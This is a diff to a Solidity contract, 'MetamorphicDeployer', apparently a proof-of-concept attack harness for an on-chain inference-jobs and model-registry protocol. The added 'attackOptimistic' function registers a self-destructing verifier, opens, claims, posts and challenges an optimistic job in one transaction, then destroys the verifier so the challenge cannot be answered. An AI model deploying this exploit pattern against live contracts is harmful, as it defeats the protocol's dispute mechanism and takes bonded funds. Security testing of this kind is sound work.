@@ -53,7 +53,42 @@ contract MetamorphicDeployer {
         jobId = jobs.openJob{value: msg.value - bond}(modelId, 1, inputCommitment, "", deadline, false);
         jobs.deposit{value: bond}();
         jobs.claim(jobId);
-        // Any call runs the verifier's only code, CALLER SELFDESTRUCT: a plain call is the point here.
+        _destroy(verifier);
+    }
+
+    /// @notice `attack` on an optimistic job: in one transaction, with the verifier still in place, open the job
+    /// (`msg.value` = fee + claim bond + challenge bond), make it optimistic, claim it, post `output` and challenge the
+    /// post by bond (this contract is both poster and challenger), then destroy the verifier: nobody can answer.
+    /// @return verifier The verifier's address.
+    /// @return modelId The model registered.
+    /// @return jobId The job opened.
+    function attackOptimistic(
+        address destroyingImpl,
+        bytes32 salt,
+        IVerifierAdapterFactory factory,
+        IModelRegistry registry,
+        IInferenceJobs jobs,
+        IERCZKMLRegistry.ModelCommitment calldata commitment,
+        uint256 inputCommitment,
+        uint64 deadline,
+        uint256 output
+    ) external payable returns (address verifier, uint256 modelId, uint256 jobId) {
+        verifier = deploy(destroyingImpl, salt);
+        address adapter = factory.createAdapter(commitment.proofSystemId, verifier, 4);
+        modelId = registry.registerModelWithVerifier(commitment, adapter, 4);
+        (uint256 challengeBond, , ) = jobs.optimisticParameters();
+        uint256 bonds = jobs.claimBond() + challengeBond;
+        jobId = jobs.openJob{value: msg.value - bonds}(modelId, 1, inputCommitment, "", deadline, false);
+        jobs.setOptimistic(jobId);
+        jobs.deposit{value: bonds}();
+        jobs.claim(jobId);
+        jobs.postResult(jobId, output);
+        jobs.challengeResult(jobId);
+        _destroy(verifier);
+    }
+
+    /// @dev Any call runs the verifier's only code, CALLER SELFDESTRUCT: a plain call is the point here.
+    function _destroy(address verifier) private {
         // solhint-disable-next-line avoid-low-level-calls
         (bool ok, ) = verifier.call("");
         if (!ok) revert DestroyFailed(verifier);
